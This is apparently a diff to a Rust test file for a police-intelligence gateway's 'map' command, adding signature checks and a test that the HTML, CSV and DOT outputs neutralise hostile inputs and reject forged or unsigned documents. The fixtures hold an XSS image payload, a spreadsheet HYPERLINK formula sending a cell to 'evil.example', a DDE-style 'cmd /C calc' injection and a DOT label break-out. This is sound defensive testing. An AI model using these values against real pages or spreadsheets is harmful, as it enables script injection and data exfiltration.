@@ -133,7 +133,14 @@ fn synthetic() -> Vec<Value> {
     d
 }
 
+/// Seals `doc` to `key` as the gateway does: signed with the (example) signing key.
 fn seal(doc: &Value, key: &age::x25519::Identity) -> Vec<u8> {
+    let signed = crate::helpers::signer().sign_document(doc.as_object().cloned().expect("object"));
+    seal_bytes(&signed, key)
+}
+
+/// Seals bytes as they are: a forger's envelope, signed or not.
+fn seal_bytes(plain: &[u8], key: &age::x25519::Identity) -> Vec<u8> {
     let route = pis_gateway::routing::Route {
         name: "police_intelligence".into(),
         mailbox: "x@example.invalid".into(),
@@ -145,7 +152,23 @@ fn seal(doc: &Value, key: &age::x25519::Identity) -> Vec<u8> {
         ack_priority_minutes: None,
         recipients: vec![key.to_public()],
     };
-    pis_gateway::seal::encrypt(&serde_json::to_vec(doc).expect("json"), &route).expect("sealed")
+    pis_gateway::seal::encrypt(plain, &route).expect("sealed")
+}
+
+/// The gateway's public signing keys, as `check-config` prints them.
+fn signer_file(dir: &Path) -> std::path::PathBuf {
+    let path = dir.join("signing-keys.txt");
+    let key = crate::helpers::signer();
+    std::fs::write(
+        &path,
+        format!(
+            "signing key {} {}\n",
+            key.public().id(),
+            key.public().to_base64()
+        ),
+    )
+    .expect("keys file");
+    path
 }
 
 fn mode(p: &Path) -> u32 {
@@ -184,9 +207,12 @@ fn planted_links_become_exactly_the_expected_clusters() {
     std::fs::write(inputs.join("PIS-BROK-EN00.age"), broken).expect("broken");
 
     let out = dir.path().join("out");
+    let signers = signer_file(dir.path());
     let run = Command::new(env!("CARGO_BIN_EXE_pis-gateway"))
         .args(["map", "--identity"])
         .arg(&key_file)
+        .arg("--signer")
+        .arg(&signers)
         .arg("--out")
         .arg(&out)
         .arg(&inputs)
@@ -317,6 +343,8 @@ fn planted_links_become_exactly_the_expected_clusters() {
     let run = Command::new(env!("CARGO_BIN_EXE_pis-gateway"))
         .args(["map", "--identity"])
         .arg(&key_file)
+        .arg("--signer")
+        .arg(&signers)
         .args([
             "--locality",
             "scarborough",
@@ -334,4 +362,179 @@ fn planted_links_become_exactly_the_expected_clusters() {
         "{}",
         String::from_utf8_lossy(&run.stderr)
     );
+}
+
+/// Runs `map` over `inputs` into `out`, trusting the example signing key.
+fn run_map(
+    dir: &Path,
+    key_file: &Path,
+    out: &Path,
+    extra: &[&str],
+    inputs: &Path,
+) -> (bool, String) {
+    let run = Command::new(env!("CARGO_BIN_EXE_pis-gateway"))
+        .args(["map", "--identity"])
+        .arg(key_file)
+        .arg("--signer")
+        .arg(signer_file(dir))
+        .args(extra)
+        .arg("--out")
+        .arg(out)
+        .arg(inputs)
+        .output()
+        .expect("map runs");
+    (
+        run.status.success(),
+        String::from_utf8_lossy(&run.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn hostile_names_forged_references_and_forged_documents_cannot_harm_the_analyst() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let key = age::x25519::Identity::generate();
+    let key_file = dir.path().join("analyst.key");
+    std::fs::write(&key_file, format!("{}\n", key.to_string().expose_secret())).expect("key");
+    let inputs = dir.path().join("in");
+    std::fs::create_dir_all(&inputs).expect("dir");
+    let xss = "<img src=x onerror=alert(1)>";
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let dot_break = "x\"]; n0 -- n1 [label=\"owned\nnext";
+    let hostile = doc(
+        "PIS-H001-0001",
+        "professional",
+        1,
+        "SELBY",
+        json!({"people": [
+            {"role": "PERSON_POSING_RISK", "forename": xss, "aliases_nicknames": formula},
+            {"role": "CHILD_AT_RISK", "forename": dot_break}
+        ], "phones": [{"number": "+44 7700 900123"}], "locations": [place("@SUM(1+1)*cmd|' /C calc'!A0")]}),
+    );
+    std::fs::write(inputs.join("hostile.age"), seal(&hostile, &key)).expect("write");
+    // The same reference sealed for a second route: one submission, not two.
+    let mut restricted = hostile.clone();
+    restricted["route"] = json!("mace_selby");
+    restricted["view"] = json!("restricted");
+    std::fs::write(inputs.join("hostile-mace.age"), seal(&restricted, &key)).expect("write");
+    // A forged reference, correctly signed (the signature is not what stops it).
+    let forged_ref = doc(
+        "PIS-<img src=x onerror=alert(2)>",
+        "professional",
+        2,
+        "SELBY",
+        json!({"people": [{"forename": "Forged Ref"}]}),
+    );
+    std::fs::write(inputs.join("forged-reference.age"), seal(&forged_ref, &key)).expect("write");
+    // A forged document: age to the analyst's public key, signed by someone else.
+    let intruder = pis_gateway::signing::SigningKey::generate();
+    let forged = doc(
+        "PIS-H001-0002",
+        "professional",
+        3,
+        "SELBY",
+        json!({"people": [{"forename": "Intruder Planted"}], "phones": [{"number": "+44 7700 900123"}]}),
+    );
+    let forged_bytes = intruder.sign_document(forged.as_object().cloned().expect("object"));
+    std::fs::write(
+        inputs.join("forged-signature.age"),
+        seal_bytes(&forged_bytes, &key),
+    )
+    .expect("write");
+    // And one with no signature at all.
+    let unsigned = doc(
+        "PIS-H001-0003",
+        "professional",
+        4,
+        "SELBY",
+        json!({"people": [{"forename": "Unsigned Planted"}]}),
+    );
+    std::fs::write(
+        inputs.join("unsigned.age"),
+        seal_bytes(&serde_json::to_vec(&unsigned).expect("json"), &key),
+    )
+    .expect("write");
+
+    // An output folder that already exists, shared on purpose: its mode is left alone.
+    let out = dir.path().join("shared-out");
+    std::fs::create_dir(&out).expect("dir");
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o750)).expect("chmod");
+    }
+    let (ok, stderr) = run_map(dir.path(), &key_file, &out, &[], &inputs);
+    assert!(ok, "{stderr}");
+    assert!(stderr.contains("1 submissions mapped"), "{stderr}");
+    for (file, why) in [
+        ("forged-reference.age", "reference"),
+        ("forged-signature.age", "refused"),
+        ("unsigned.age", "not signed by the gateway"),
+    ] {
+        assert!(
+            stderr.lines().any(|l| l.contains(file) && l.contains(why)),
+            "{file} named with {why}: {stderr}"
+        );
+    }
+    assert_eq!(mode(&out), 0o750, "an existing folder keeps its mode");
+
+    let html = std::fs::read_to_string(out.join("map.html")).expect("html");
+    assert!(!html.contains("<img"), "{html}");
+    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
+    assert!(!html.contains("Intruder Planted") && !html.contains("Unsigned Planted"));
+    assert!(!html.contains("Forged Ref"));
+    let csp = html
+        .split("http-equiv=\"Content-Security-Policy\" content=\"")
+        .nth(1)
+        .and_then(|r| r.split('"').next())
+        .expect("a CSP in the page");
+    assert!(csp.starts_with("default-src 'none'"), "{csp}");
+    assert!(
+        !csp.contains("unsafe") && !csp.contains("script-src"),
+        "{csp}"
+    );
+    assert!(
+        !html.contains(" style=\""),
+        "no style attributes for the CSP to refuse"
+    );
+
+    let csv = std::fs::read_to_string(out.join("links.csv")).expect("csv");
+    for line in csv.lines().skip(1) {
+        for cell in line.split(',') {
+            let inner = cell.trim_start_matches('"');
+            assert!(
+                !inner.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell} in {line}"
+            );
+        }
+    }
+    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+    assert!(csv.contains("\"'+447700900123\""), "{csv}");
+    assert!(csv.contains("\"'@SUM(1+1)"), "{csv}");
+
+    let dot = std::fs::read_to_string(out.join("map.dot")).expect("dot");
+    assert!(
+        !dot.contains("owned\n"),
+        "no raw line break in a label: {dot}"
+    );
+    assert!(
+        dot.lines().all(|l| !l.contains("n0 -- n1 [label=\"owned")),
+        "{dot}"
+    );
+    assert!(
+        dot.contains("x\\\"]; n0 -- n1 [label=\\\"owned next"),
+        "{dot}"
+    );
+
+    // With --allow-unsigned the unsigned and forged ones are read, each named as unverified.
+    let out2 = dir.path().join("new/out2");
+    let (ok, stderr) = run_map(dir.path(), &key_file, &out2, &["--allow-unsigned"], &inputs);
+    assert!(ok, "{stderr}");
+    assert!(stderr.contains("3 submissions mapped"), "{stderr}");
+    assert!(
+        stderr
+            .lines()
+            .any(|l| l.contains("unsigned.age") && l.contains("warning")),
+        "{stderr}"
+    );
+    assert_eq!(mode(&out2), 0o700, "a folder it creates is private");
+    assert_eq!(mode(&dir.path().join("new")), 0o700);
 }
